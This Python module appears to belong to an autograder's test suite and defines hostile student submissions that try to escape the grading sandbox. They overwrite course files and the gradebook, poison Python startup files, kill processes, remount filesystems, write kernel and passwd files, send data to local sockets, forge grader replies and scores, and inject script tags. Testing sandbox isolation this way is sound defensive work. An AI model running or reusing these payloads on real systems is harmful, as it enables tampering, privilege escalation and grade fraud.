"""Right answers that reach out of the sandbox: to write, to signal, to connect, to forge what is said about them."""

from . import Attack
from .assignment import ANSWERS, POINTS
from .cheating import BROKEN, FOOLED, WRONG

ONE = ("preactivation",)


def reach(slug, what, source, function=ANSWERS["preactivation"], **more):
    """A preactivation after something that reaches out."""
    return Attack(slug, what, {"preactivation": f"{source}\n{function}"}, **more)


OVERWRITE = """
import glob, os, shutil
for path in [*glob.glob("@COURSE@/**/*", recursive=True), *glob.glob("@SAFE@/*")]:
    try:
        if os.path.isfile(path) and not path.endswith("gradebook.db"):
            with open(path, "a") as file: file.write(" ")
    except OSError: pass
try:
    with open("@SAFE@/new", "w") as file: file.write("was here")
except OSError: pass
"""
GRADEBOOK = """
import sqlite3
try:
    db = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
    db.execute("update grade set manual_score = 1000")
    db.commit()
except Exception: pass
"""
LATER = """
import os, subprocess, sys
code = '''
import time, sqlite3
for i in range(200):
    time.sleep(0.1)
    try:
        open("@SAFE@/new", "a").write("was here")
        db = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
        db.execute("update grade set manual_score = 1000")
        db.commit()
    except Exception: pass
'''
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", code])
        os._exit(0)
except OSError: pass
"""
ATEXIT = """
import atexit, threading
def later():
    try:
        open("@SAFE@/new", "w").write("was here")
    except OSError: pass
atexit.register(later)
class Last:
    def __del__(self, later=later): later()
last = Last()
threading.Timer(0.5, later).start()
"""
PERSIST = """
import os, site, sys, sysconfig
poison = "import os; os._exit(7)\\n"
home = os.path.expanduser("~")
for path in (f"{home}/.ipython/profile_default/startup/00.py", f"{home}/.ipython/profile_default/ipython_config.py", f"{home}/.jupyter/jupyter_config.py",
             f"{site.getusersitepackages()}/usercustomize.py", f"{sysconfig.get_path('purelib')}/poison.pth", f"{sysconfig.get_path('purelib')}/numpy/_later.py",
             "@COURSE@/submitted/zoe/attacked/sitecustomize.py", "@COURSE@/source/attacked/numpy.py", os.path.dirname(os.__file__) + "/sitecustomize.py"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file: file.write(poison)
    except OSError: pass
"""
KILL = """
import os, signal
for pid in (1, os.getppid(), -os.getppid(), -1):
    if pid != os.getpid() and pid not in (0,):
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
"""
STOP_PARENT = """
import os, signal
for name in ("SIGSTOP", "SIGTERM", "SIGINT"):
    try:
        if os.getppid() > 1: os.kill(os.getppid(), getattr(signal, name))
    except OSError: pass
"""
MOUNT = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x00020000)
libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None)
libc.mount(b"/", b"/mnt", None, 4096 | 16384, None)
libc.mount(None, b"/", None, 32 | 4096, None)
libc.umount2(b"/proc", 2)
libc.umount2(b"/tmp", 2)
for name in ("chroot", "pivot_root"):
    try: getattr(libc, name)(b".", b".")
    except Exception: pass
for fd in range(3, 64): libc.setns(fd, 0)
try: os.mknod("device", 0o600 | 0o060000, os.makedev(8, 0))
except OSError: pass
"""
SYSTEM = """
import os
for path, text in (("/proc/sysrq-trigger", "h"), ("/proc/sys/kernel/hostname", "owned"), ("/proc/self/oom_score_adj", "-1000"), ("/proc/1/oom_score_adj", "1000"),
                   ("/sys/kernel/mm/ksm/run", "0"), ("/sys/fs/cgroup/cgroup.procs", "1"), ("/etc/passwd", ""), ("/proc/sys/vm/drop_caches", "0")):
    try:
        with open(path, "a") as file: file.write(text)
    except OSError: pass
try: os.setuid(0)
except OSError: pass
try: os.nice(-20)
except OSError: pass
"""
NETWORK = """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET, ("10.0.2.2", @PORT@)), (socket.AF_INET6, ("::1", @PORT@))):
    try:
        with socket.socket(family) as s:
            s.settimeout(0.3)
            s.connect(address)
            s.sendall(b"stolen")
    except OSError: pass
for kind in (socket.AF_NETLINK, socket.AF_PACKET, getattr(socket, "AF_VSOCK", 40)):
    try: socket.socket(kind, socket.SOCK_RAW).close()
    except (OSError, ValueError): pass
"""
UNIX_SOCKET = """
import socket
for address in ("\\0dlcourse-canary", "@SAFE@/socket"):
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(0.3)
            s.connect(address)
            s.sendall(b"stolen")
    except OSError: pass
"""
LINKS = """
import os
for name in ("attacked.ipynb", "out", "figures", "../attacked.ipynb"):
    try: os.symlink("@SAFE@/untouched", name)
    except OSError: pass
"""
SHARED = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for key in range(0x5EED, 0x5EED + 8):
    libc.shmget(key, 1 << 20, 0o1666)
    libc.semget(key, 4, 0o1666)
    libc.msgget(key, 0o1666)
"""

# --- frames: the child's end of the socket, by number or by the objects that hold it ---

SOCKETS = """
import gc, json, os, socket, stat, struct, sys
def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): yield fd
        except OSError: pass
def frame(header, body=b""):
    head = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">II", len(head), len(body)) + head + body
def send(data):
    for fd in sockets():
        try: socket.socket(fileno=os.dup(fd)).send(data, socket.MSG_DONTWAIT)
        except (OSError, ValueError): pass
def inside(name):
    frame = sys._getframe()
    while frame is not None:
        if name in frame.f_globals and "live" in frame.f_globals: return [frame.f_globals[name]]
        frame = frame.f_back
    return []
"""
FORGED = """
right = {"outcomes": [{"error": None, "where": "", "changed": [], "printed": "", "warned": ""}], "values": [["a", "<f8", [5], 0]], "passed": True, "score": 1.0, "points": 1.0}
for number in range(20):
    send(frame(right | {"id": number}, bytes(40)))
"""
GARBAGE = "send(b'garbage' * 100)"
HUGE_HEADER = "send(struct.pack('>II', 2**32 - 1, 2**32 - 1))"
BIG_HEADER = "send(struct.pack('>II', 8 * 2**20, 0) + b'[' * 1000)"
DEEP_HEADER = "send(frame(b'{\"id\":' + b'[' * 50_000 + b']' * 50_000 + b'}'))"
ECHO = """
for name in ("run_one_case", "find_functions", "run_cell"):
    for function in inside(name):
        function.__code__ = (lambda shell, work, header, body: (header, [body])).__code__
"""
CLOSED = """
for fd in range(3, 256):
    try: os.close(fd)
    except OSError: pass
"""
SHUT = """
for fd in sockets(): socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
"""
REPLY = """
def reply(make):
    for function in inside("run_one_case"):
        kept = type(function)(function.__code__, function.__globals__)
        function.__globals__["_make"], function.__globals__["_kept"] = make, kept
        def answer(shell, work, header, body):
            return (_make if "preactivation" in header["names"] else lambda kept, *a: kept(*a))(_kept, shell, work, header, body)
        function.__code__ = answer.__code__
"""
AMPLIFIED = """
def make(kept, shell, work, header, body):
    whole = ["a", "|u1", [1 << 20], 0]
    return {"outcomes": [{"error": None, "where": "", "changed": [], "printed": "", "warned": ""}], "values": [["l", [whole] * 100_000]]}, [bytes(1 << 20)]
reply(make)
"""
STRANGE = """
turn = [0]
def make(kept, shell, work, header, body):
    strange = [
        {}, {"outcomes": None, "values": None}, {"outcomes": [], "values": []}, {"outcomes": [5], "values": [5]},
        {"outcomes": [{"error": 5, "where": {}, "changed": 3, "printed": [], "warned": None}] * 1000, "values": [["a", "|O", [1], 0]]},
        {"outcomes": [{"error": ["NotImplementedError"]}], "values": [["f", "nan(" * 100]]},
        {"outcomes": [{"error": None, "where": "", "changed": [], "printed": "", "warned": ""}], "values": [["d", [[["l", []], None]]]]},
        {"outcomes": [{"error": None, "where": "", "changed": [], "printed": "", "warned": ""}], "values": [["a", "<f8", [-1, 5], -8]]},
        {"outcomes": [{"error": None, "where": "", "changed": [], "printed": "", "warned": ""}], "values": [["rng", 5]]},
    ]
    turn[0] += 1
    return strange[turn[0] % len(strange)], ()
reply(make)
"""
LOOKUP = """
for function in inside("find_functions"):
    function.__code__ = (lambda shell, work, header, body: ({"found": [[True, True]] * len(header["names"])}, ())).__code__
"""
ASKS = """
def make(kept, shell, work, header, body):
    for name in ("neurons.preactivation", "os.system", "autograder.checks.evaluation.check", "__builtins__.exec"):
        work.send({"call": name, "value": ["t", [["t", [["s", "echo overwritten > @SAFE@/untouched"]]], ["d", []]]], "id": header["id"]})
        work.receive()
    return kept(shell, work, header, body)
reply(make)
"""
DEEP_CALL = """
def make(kept, shell, work, header, body):
    for depth in (500, 900, 950, 970, 980, 985, 990, 995):
        value = "[" * depth + "]" * depth
        text = '{"call": "layers.linear_forward", "value": %s, "id": %d}' % (value, header["id"])
        work.sock.sendall(frame(text.encode()))
        work.receive()
    return kept(shell, work, header, body)
reply(make)
"""
LARGE_CALL = """
from dlcourse import layers
for size in (10**5, 10**4):
    try: layers.linear_forward(np.ones((size, 1)), np.ones((1, size)), np.zeros(size))
    except Exception as error: print(type(error).__name__)
"""
FORGED_VALUE = """
for function in inside("run_cell"):
    kept = type(function)(function.__code__, function.__globals__, None, function.__defaults__)
    function.__globals__["_value"], function.__globals__["_cell"] = {value}, kept
    def forged(shell, work, header, body):
        result, buffers = _cell(shell, work, header, body)
        return {{**result, "value": _value, "error": None}}, buffers
    function.__code__ = forged.__code__
"""
FORGED_OUTPUT = """
for function in inside("run_cell"):
    kept = type(function)(function.__code__, function.__globals__)
    function.__globals__["_cell"] = kept
    def forged(shell, work, header, body):
        result, buffers = _cell(shell, work, header, body)
        evil = "<script>alert(1)</script>"
        return {**result, "outputs": [
            {"output_type": "display_data", "data": {"text/html": evil, "application/javascript": "alert(1)", "image/svg+xml": evil}, "metadata": {"a": evil}},
            {"output_type": "execute_result", "data": {"text/plain": "1000.0"}, "execution_count": 1, "metadata": {}},
            {"output_type": "error", "ename": 5, "evalue": None, "traceback": evil}, {"output_type": "evil"}, 5, None, {"output_type": "stream", "name": 7, "text": {}},
            {"output_type": "display_data", "data": {"image/png": evil}}]}, buffers
    function.__code__ = forged.__code__
"""
MANY_FRAMES = """
import threading, time
def flood():
    data = frame({"id": 0}) * 1000
    for fd in sockets():
        s = socket.socket(fileno=os.dup(fd))
        while True:
            try: s.sendall(data)
            except OSError: return
threading.Thread(target=flood, daemon=True).start()
time.sleep(0.3)
"""
SLOW_FRAME = """
import threading, time
def drip():
    for fd in sockets():
        s = socket.socket(fileno=os.dup(fd))
        for byte in struct.pack(">II", 1000, 1000) + b" " * 900:
            s.send(bytes([byte])); time.sleep(0.05)
threading.Thread(target=drip, daemon=True).start()
time.sleep(0.2)
"""
PASSES_FDS = """
for fd in sockets():
    s = socket.socket(fileno=os.dup(fd))
    for _ in range(20):
        try: socket.send_fds(s, [b"x"], [os.open("/dev/null", 0)] * 20)
        except OSError: break
"""
FORK_ANSWERS = """
import os
try: os.fork()
except OSError: pass
"""

ATTACKS = [
    reach("overwrites", "writes into every file of the course", OVERWRITE),
    reach("writes_gradebook", "gives everyone 1,000 points in the gradebook", GRADEBOOK),
    reach("writes_later", "a detached process writes the gradebook later", LATER),
    reach("writes_at_exit", "writes when the process ends, in a destructor, in a timer", ATEXIT),
    reach("persists", "leaves code that the next Python would run", PERSIST),
    reach("kills", "kills every process that it may", KILL),
    reach("stops_parent", "stops the process that started it", STOP_PARENT),
    reach("mounts", "mounts, unmounts, changes root and namespaces, makes devices", MOUNT),
    reach("system_files", "writes the kernel's files and becomes root", SYSTEM),
    reach("network", "connects to this machine", NETWORK),
    reach("unix_sockets", "connects to local sockets", UNIX_SOCKET),
    reach("plants_links", "leaves links where results are written", LINKS),
    reach("system_v", "leaves System V memory, semaphores and queues", SHARED),
    reach(
        "forged_frames",
        "right replies on every socket, in advance",
        SOCKETS + FORGED,
        WRONG,
        loses=ONE,
        verdict="crashed",
        says="ended the whole Python process",
    ),
    reach(
        "garbage_frames",
        "garbage on every socket",
        SOCKETS + GARBAGE,
        loses=ONE,
        verdict="too much output",
        says="the student's code was stopped",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "huge_header",
        "a frame that announces 4 GB",
        SOCKETS + HUGE_HEADER,
        loses=ONE,
        verdict="too much output",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "slow_header",
        "a frame that never ends",
        SOCKETS + BIG_HEADER,
        loses=ONE,
        verdict="out of time",
        says="the student's code was stopped",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "deep_header",
        "a frame of 50,000 brackets",
        SOCKETS + DEEP_HEADER,
        loses=ONE,
        verdict="crashed",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "many_frames",
        "frames without end",
        SOCKETS + MANY_FRAMES,
        loses=ONE,
        verdict="crashed",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "dripping_frame",
        "a frame, a byte at a time",
        SOCKETS + SLOW_FRAME,
        loses=ONE,
        verdict="out of time",
        says="the student's code was stopped",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "echoed_frames",
        "sends back what it is asked, for every answer from then on",
        SOCKETS + ECHO,
        WRONG,
        loses=tuple(POINTS),
        verdict="crashed",
        says="ended the whole Python process",
        worth=7,
        limit=BROKEN,
    ),
    reach(
        "closed_files",
        "closes every file",
        SOCKETS + CLOSED,
        loses=ONE,
        verdict="crashed",
        says="ended the whole Python process",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "shut_sockets",
        "shuts every socket",
        SOCKETS + SHUT,
        loses=ONE,
        verdict="crashed",
        says="ended the whole Python process",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "passed_files",
        "sends open files over every socket",
        SOCKETS + PASSES_FDS,
        loses=ONE,
        verdict="too much output",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "amplified_reply",
        "a reply of one megabyte that stands for a hundred thousand of them",
        SOCKETS + REPLY + AMPLIFIED,
        loses=ONE,
        verdict="wrong",
        says="returned or printed far more than any right answer",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "strange_replies",
        "replies of the wrong form",
        SOCKETS + REPLY + STRANGE,
        loses=ONE,
        verdict="crashed",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "strange_lookup",
        "says nonsense about which functions there are",
        SOCKETS + LOOKUP,
        loses=tuple(POINTS)[:3],
        verdict="crashed",
        says="ended the whole Python process",
        worth=8,
        limit=BROKEN,
    ),
    reach(
        "deep_calls",
        "asks the grader to call the course's functions with a thousand brackets",
        SOCKETS + REPLY + DEEP_CALL,
        loses=ONE,
        verdict="crashed",
        worth=8,
        limit=BROKEN,
    ),
    reach("large_calls", "asks the grader to call the course's functions for 80 GB", LARGE_CALL),
    reach(
        "asks_for_more",
        "asks the grader to call functions for it",
        SOCKETS + REPLY + ASKS,
        loses=ONE,
        verdict="crashed",
        worth=8,
        limit=BROKEN,
    ),
    *(
        Attack(
            f"forged_{name}",
            f"a cell of plain asserts is said to be worth {worth}",
            {"average": SOCKETS + FORGED_VALUE.format(value=value) + "def average(values):\n    return 0"},
            worth=6,
            limit=FOOLED,
        )
        for name, worth, value in (
            ("value", "infinitely much", "float('inf')"),
            ("nan", "NaN", "float('nan')"),
            ("text", "a text", "'1000'"),
            ("number", "10⁴⁰⁰⁰", "10**4000"),
        )
    ),
    reach("forged_outputs_live", "outputs with scripts, forged in the child", SOCKETS + FORGED_OUTPUT),
    reach("fork_answers", "two processes answer from now on", FORK_ANSWERS),
]
